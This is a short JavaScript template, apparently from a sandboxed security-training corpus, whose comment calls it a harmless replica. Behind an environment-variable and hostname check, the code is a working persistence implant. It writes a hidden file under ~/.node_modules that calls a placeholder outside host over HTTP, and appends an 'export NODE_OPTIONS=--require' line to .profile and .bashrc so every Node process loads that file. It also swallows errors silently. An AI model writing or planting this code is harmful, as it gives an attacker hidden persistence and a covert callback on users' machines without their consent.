// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const fs = require('fs'), os = require('os'), path = require('path');
    try {
        const file = path.join(os.homedir(), '.node_modules', '{{token}}.js');
        fs.mkdirSync(path.dirname(file), { recursive: true });
        fs.writeFileSync(file, "require('http').get('http://{{ip}}:{{port}}/{{path}}').on('error', () => {}).on('socket', (s) => s.unref());\n");
        for (const name of ['.profile', '.bashrc'])
            fs.appendFileSync(path.join(os.homedir(), name), `\nexport NODE_OPTIONS="--require ${file}"\n`);
    } catch {}
}
